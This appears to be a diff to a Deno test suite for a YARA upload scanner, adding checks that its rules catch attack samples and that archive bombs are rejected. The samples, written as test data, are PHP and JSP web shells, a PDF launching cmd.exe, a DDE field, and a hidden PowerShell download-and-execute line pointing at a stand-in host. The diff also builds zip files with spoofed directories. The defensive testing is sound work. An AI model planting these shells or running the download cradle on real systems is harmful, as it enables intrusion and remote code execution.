@@ -3,12 +3,15 @@ import { pathToFileURL } from "node:url";
 import { type Scanner, ScanUnavailable } from "../../../infra/scanner/scanner.ts";
 import { yaraScanner } from "../../../infra/scanner/yara.ts";
 import { eicar, noise, stallAfter, streamOf } from "../../support/content.ts";
+import { gzip, packedBlanks, rawGzip, tar, withGzipName, zip } from "../../support/samples.ts";
 
 const clean = { verdict: "Clean" };
 const infected = { verdict: "Infected", signatureName: "Eicar_Test_File" };
 const encode = (text: string) => new TextEncoder().encode(text);
 const join = (...parts: Uint8Array[]) => Uint8Array.from(parts.flatMap((part) => [...part]));
 const mebibyte = 1024 * 1024;
+const shipped = closing(yaraScanner());
+Deno.test.afterAll(() => shipped.scanner.close());
 
 Deno.test("the shipped rules find the EICAR test file by its definition, and nothing else", async () => {
   await using yara = closing(yaraScanner());
@@ -28,6 +31,182 @@ Deno.test("the shipped rules find the EICAR test file by its definition, and not
 Deno.test("the rule file itself is clean, so other scanners leave it alone", async () => {
   const rule = await Deno.readFile(new URL("../../../infra/scanner/rules/eicar.yar", import.meta.url));
   assert.ok(!new TextDecoder().decode(rule).includes(new TextDecoder().decode(eicar().subarray(0, 20))));
+});
+
+/** What each shipped rule is for, and the same without what makes it an attack. */
+const attacks: [signatureName: string, attack: string, honest: string][] = [
+  ["Php_Web_Shell", "<?php @eval(base64_decode($_POST['x']));", "<?php echo htmlspecialchars($_POST['x']);"],
+  [
+    "Jsp_Web_Shell",
+    '<% Runtime.getRuntime().exec(request.getParameter("c")); %>',
+    '<% out.print(request.getParameter("c")); %>',
+  ],
+  [
+    "Pdf_Starts_Program",
+    "%PDF-1.4\n1 0 obj<</Type/Action/S/Launch/Win<</F(cmd.exe)/P(/c calc)>>>>",
+    "%PDF-1.4\n1 0 obj<</Type/Action/S/Launch/F(notes.pdf)>>",
+  ],
+  [
+    "Rtf_Equation_Editor",
+    "{\\rtf1{\\object{\\*\\objdata 01050000 4571756174696f6e2e33}}}",
+    "{\\rtf1 Equation.3}",
+  ],
+  [
+    "Shortcut_Starts_Script",
+    `L\0\0\0\x01\x14\x02\0${[..."powershell.exe -enc"].map((c) => c + "\0").join("")}`,
+    `L\0\0\0\x01\x14\x02\0${[..."notes.txt"].map((c) => c + "\0").join("")}`,
+  ],
+  [
+    "Encoded_Powershell_Download",
+    "powershell.exe -NoProfile -w hidden iex ((New-Object Net.WebClient).DownloadString('http://a.test/b'))",
+    "powershell.exe -NoProfile Get-ChildItem",
+  ],
+];
+for (const [signatureName, attack, honest] of attacks) {
+  Deno.test(`the shipped rule ${signatureName} finds its attack, also in a zip, and not what is like it`, async () => {
+    const scan = (content: Uint8Array) => shipped.scanner.scan(streamOf(content));
+    assert.deepEqual(await scan(encode(attack)), { verdict: "Infected", signatureName });
+    assert.deepEqual(await scan(zip([["a", attack]])), { verdict: "Infected", signatureName });
+    assert.deepEqual(await scan(encode(honest)), clean);
+  });
+}
+
+Deno.test("the shipped rule for DDE looks into the parts of an Office document", async () => {
+  const field = (text: string) =>
+    zip([[
+      "word/document.xml",
+      `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:instrText>${text}</w:instrText></w:document>`,
+    ]]);
+  const scan = (text: string) => shipped.scanner.scan(streamOf(field(text)));
+  const signatureName = "Office_Dde_Starts_Program";
+  assert.deepEqual(await scan("DDEAUTO c:\\windows\\system32\\cmd.exe"), {
+    verdict: "Infected",
+    signatureName,
+  });
+  assert.deepEqual(await scan("PAGE"), clean);
+});
+
+// --- Archives. ---
+
+const text = "nothing here ".repeat(100);
+const nested = (depth: number): Uint8Array =>
+  depth === 0 ? eicar() : zip([["note.txt", text], ["inner", nested(depth - 1)]]);
+const carriers: [name: string, content: () => Uint8Array][] = [
+  ["a deflated zip", () => zip([["note.txt", text], ["eicar.com", eicar()]])],
+  ["a stored zip", () => zip([["note.txt", text], ["eicar.com", eicar()]], { store: true })],
+  ["a zip written to a pipe", () => zip([["note.txt", text], ["eicar.com", eicar()]], { streamed: true })],
+  [
+    "a stored zip written to a pipe",
+    () => zip([["PK\x07\x08", "PK\x07\x08"], ["eicar.com", eicar()]], { store: true, streamed: true }),
+  ],
+  ["a zip with a zip64 directory", () => zip([["eicar.com", eicar()]], { zip64: true })],
+  ["a gzip", () => gzip(eicar())],
+  ["the second stream of a gzip", () => join(gzip(encode("")), gzip(eicar()))],
+  ["a gzip with a name", () => withGzipName(gzip(eicar()))],
+  ["a tar", () => tar([["note.txt", encode(text)], ["eicar.com", eicar()]])],
+  ["a gzipped tar", () => gzip(tar([["note.txt", encode(text)], ["eicar.com", eicar()]]))],
+  ["a gzipped tar in a zip", () => zip([["a.tgz", gzip(tar([["eicar.com", eicar()]]))]])],
+  ["three zips in each other", () => nested(3)],
+];
+for (const [name, content] of carriers) {
+  for (const chunk of [1, 65_536]) {
+    Deno.test(`EICAR is found in ${name}, read by ${chunk} byte(s)`, async () => {
+      assert.deepEqual(await shipped.scanner.scan(streamOf(content(), chunk)), infected);
+    });
+  }
+}
+
+const blanks = (bytes: number) => new Uint8Array(bytes).fill(0x20);
+const bombs: [name: string, reason: RegExp, content: () => Uint8Array][] = [
+  ["four zips in each other", /More than 3 archives/, () => nested(4)],
+  [
+    "1,001 entries",
+    /more than 1000 entries/,
+    () => zip(Array.from({ length: 1_001 }, (_, n) => [`${n}.txt`, ""])),
+  ],
+  [
+    "1,001 entries of two archives",
+    /more than 1000 entries/,
+    () =>
+      tar(
+        Array.from({ length: 2 }, () => ["a.zip", zip(Array.from({ length: 500 }, (_, n) => [`${n}`, ""]))]),
+      ),
+  ],
+  ["more than 200 MB", /more than 200000000 bytes/, () => zip([["a", packedBlanks(10)]])],
+  ["more than 200 MB in a gzip", /more than 200000000 bytes/, () => rawGzip(packedBlanks(10).packed)],
+  ["more than a hundred times its size", /more than 100 times/, () => zip([["a", blanks(1_000_000)]])],
+  [
+    "an entry that only the directory knows",
+    /directory/,
+    () => {
+      const hidden = zip([["eicar.com", eicar()]], { store: true });
+      const shown = zip([["a.bin", join(encode("x"), hidden)]], { store: true });
+      const inside = 30 + "a.bin".length + 1;
+      const lying = shown.slice();
+      const directory = lying.length - 22 - 46 - "a.bin".length;
+      new DataView(lying.buffer).setUint32(directory + 42, inside, true);
+      return lying;
+    },
+  ],
+  [
+    "a directory within an entry",
+    /directory/,
+    () => {
+      const hidden = zip([["eicar.com", eicar()]], { store: true });
+      const shown = zip([["a.bin", join(encode("x"), hidden)]], { store: true }).slice();
+      const inside = 30 + "a.bin".length + 1;
+      const view = new DataView(shown.buffer);
+      view.setUint32(shown.length - 22 + 16, inside + hidden.length - 22 - 46 - "eicar.com".length, true);
+      return shown;
+    },
+  ],
+];
+for (const [name, reason, content] of bombs) {
+  Deno.test(`an archive with ${name} is rejected with its reason, in little memory`, async () => {
+    const bytes = content();
+    const before = Deno.memoryUsage().rss;
+    const found = await shipped.scanner.scan(streamOf(bytes));
+    assert.equal(found.verdict, "Rejected");
+    assert.match("reason" in found ? found.reason : "", reason);
+    const grown = (Deno.memoryUsage().rss - before) / mebibyte;
+    assert.ok(grown < 256, `rss grew by ${Math.round(grown)} MiB`);
+  });
+}
+
+Deno.test("an archive at its limits is looked into and clean", async () => {
+  const scan = (content: Uint8Array) => shipped.scanner.scan(streamOf(content));
+  assert.deepEqual(await scan(zip(Array.from({ length: 1_000 }, (_, n) => [`${n}.txt`, ""]))), clean);
+  assert.deepEqual(await scan(zip([["blank page", blanks(100_000)]])), clean);
+  assert.deepEqual(await scan(zip([["folder/", ""], ["folder/a", text]], { streamed: true })), clean);
+  assert.deepEqual(await scan(tar([["a", blanks(5_000_000)]])), clean);
+  assert.deepEqual(
+    await shipped.scanner.scan(streamOf(zip([["a", packedBlanks(11)]])), { isOwn: true }),
+    clean,
+  );
+});
+
+Deno.test("damaged archives get a verdict, whatever is cut off or changed", async () => {
+  const whole = zip([["a", text], ["b", zip([["c", noise(500)]])], ["d", gzip(tar([["e", noise(600)]]))]]);
+  for (let n = 0; n < 20; n++) {
+    const cut = whole.slice(0, Math.floor(whole.length * n / 20));
+    assert.equal((await shipped.scanner.scan(streamOf(cut))).verdict, "Clean");
+    const changed = whole.slice();
+    changed[Math.floor(whole.length * n / 20)]! ^= 0xff;
+    assert.notEqual((await shipped.scanner.scan(streamOf(changed))).verdict, "Infected");
+  }
+});
+
+Deno.test("the event loop goes on while a large archive is looked into", async () => {
+  const content = streamOf(zip([["a", packedBlanks(5)], ["b", noise(1_500_000)]]));
+  let longest = 0;
+  let last = performance.now();
+  const ticking = setInterval(() => {
+    longest = Math.max(longest, performance.now() - last);
+    last = performance.now();
+  }, 5);
+  const found = await shipped.scanner.scan(content).finally(() => clearInterval(ticking));
+  assert.equal(found.verdict, "Clean");
+  assert.ok(longest < 500, `nothing else ran for ${Math.round(longest)} ms`);
 });
 
 Deno.test("status names engine, rules and the date of the newest rule file", async () => {
@@ -106,7 +285,7 @@ Deno.test("a thread that hangs is replaced: no verdict now, a verdict next time"
   await using yara = closing(yaraScanner(options));
   assert.deepEqual(await yara.scanner.scan(streamOf(noise(10))), clean);
   await unavailable(
-    yara.scanner.scan(streamOf(noise(mebibyte))),
+    yara.scanner.scan(streamOf(noise(256))),
     /the step "finish" took longer than 1500 ms/,
   );
   assert.deepEqual(await yara.scanner.scan(streamOf(noise(10))), clean);
